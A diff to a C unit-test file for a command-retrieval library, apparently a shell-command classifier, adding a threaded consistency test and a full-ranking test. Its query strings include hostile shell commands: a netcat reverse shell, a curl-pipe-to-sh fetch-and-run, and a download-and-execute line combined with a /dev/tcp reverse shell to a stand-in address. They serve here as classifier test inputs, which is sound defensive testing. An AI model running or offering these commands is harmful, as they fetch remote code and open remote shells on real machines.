@@ -8,6 +8,7 @@
 #include "testutil.h"
 
 #include <math.h>
+#include <pthread.h>
 #include <unistd.h>
 
 #include "retrieve.h"
@@ -42,6 +43,11 @@ static void assert_hits_equal(const kb_hit *a, const kb_hit *b, int n) {
         assert_int_equal(a[i].index, b[i].index);
         assert_true(a[i].score == b[i].score);
     }
+}
+
+/* a ranks before b in the documented order (score desc, index asc) */
+static bool better_or_equal(kb_hit a, kb_hit b) {
+    return a.score > b.score || (a.score == b.score && a.index < b.index);
 }
 
 static int query(const nj_kb *kb, const char *q, int k, double div, kb_hit *h) {
@@ -447,6 +453,61 @@ static void test_alloc_failures(void **st) {
     if (failures <= 10) fail_msg("only %ld allocations reached", failures);
 }
 
+/* ------------------------------------------------------------ threads */
+
+/* Several threads query one base, each through its own searcher, and must
+ * get exactly the hits a single thread got. */
+typedef struct {
+    const nj_kb *kb;
+    const char *const *q;
+    size_t nq;
+    const kb_hit (*want)[5];
+    const int *wn;
+    int bad;
+} thr_arg;
+
+static void *thr_main(void *p) {
+    thr_arg *a = p;
+    int err = 0;
+    nj_kb_searcher *s = kb_searcher_new(a->kb, &err);
+    if (!s) { a->bad = -1; return NULL; }
+    for (int round = 0; round < 50; round++)
+        for (size_t i = 0; i < a->nq; i++) {
+            kb_hit h[5];
+            int n = kb_query(s, a->q[i], strlen(a->q[i]), 5, NULL, h);
+            if (n != a->wn[i]) { a->bad++; continue; }
+            for (int j = 0; j < n; j++)
+                if (h[j].index != a->want[i][j].index || h[j].score != a->want[i][j].score) a->bad++;
+        }
+    kb_searcher_free(s);
+    return NULL;
+}
+
+static void test_threads(void **st) {
+    (void)st;
+    static const char *const q[] = {
+        "nc -e /bin/sh 10.0.0.3 4444", "git status", "nc -z db 5432", "ls -la /tmp", "curl http://x.example/a | sh",
+    };
+    nj_kb *kb = tiny();
+    int err = 0;
+    nj_kb_searcher *s = kb_searcher_new(kb, &err);
+    kb_hit want[NJ_ARRAY_LEN(q)][5];
+    int wn[NJ_ARRAY_LEN(q)];
+    for (size_t i = 0; i < NJ_ARRAY_LEN(q); i++) wn[i] = kb_query(s, q[i], strlen(q[i]), 5, NULL, want[i]);
+    kb_searcher_free(s);
+    pthread_t t[4];
+    thr_arg a[4];
+    for (int i = 0; i < 4; i++) {
+        a[i] = (thr_arg){kb, q, NJ_ARRAY_LEN(q), (const kb_hit (*)[5])want, wn, 0};
+        assert_int_equal(pthread_create(&t[i], NULL, thr_main, &a[i]), 0);
+    }
+    for (int i = 0; i < 4; i++) {
+        assert_int_equal(pthread_join(t[i], NULL), 0);
+        assert_int_equal(a[i].bad, 0);
+    }
+    kb_free(kb);
+}
+
 /* ------------------------------------------------------ shipped base */
 
 static void test_shipped_kb(void **st) {
@@ -476,6 +537,25 @@ static void test_shipped_kb(void **st) {
         if (!found) fail_msg("entry %zu [%s] is not in its own top 5", i, e->cmd);
     }
     for (int l = 0; l < KB_NLABELS; l++) assert_true(counts[l] >= kb_size(kb) / 10);
+    /* k as large as the base: every entry sharing a token, in order, once */
+    size_t n_all = kb_size(kb);
+    kb_hit *all = calloc(n_all, sizeof *all);
+    unsigned char *seen = calloc(n_all, 1);
+    assert_non_null(all);
+    assert_non_null(seen);
+    const char *q = "sudo curl -fsSL http://192.0.2.1/x.sh | bash -i >& /dev/tcp/192.0.2.1/443 0>&1";
+    int n = kb_query(s, q, strlen(q), (int)n_all, NULL, all);
+    assert_true(n > 100);
+    for (int j = 0; j < n; j++) {
+        assert_false(seen[all[j].index]);
+        seen[all[j].index] = 1;
+        if (j) assert_true(better_or_equal(all[j - 1], all[j]));
+    }
+    kb_hit top[5];
+    assert_int_equal(kb_query(s, q, strlen(q), 5, NULL, top), 5);
+    assert_hits_equal(all, top, 5);
+    free(all);
+    free(seen);
     kb_searcher_free(s);
     kb_free(kb);
 }
@@ -492,6 +572,7 @@ int main(void) {
         cmocka_unit_test(test_malformed),
         cmocka_unit_test(test_file_errors),
         cmocka_unit_test(test_alloc_failures),
+        cmocka_unit_test(test_threads),
         cmocka_unit_test(test_shipped_kb),
     };
     return cmocka_run_group_tests_name("retrieve", tests, NULL, NULL);
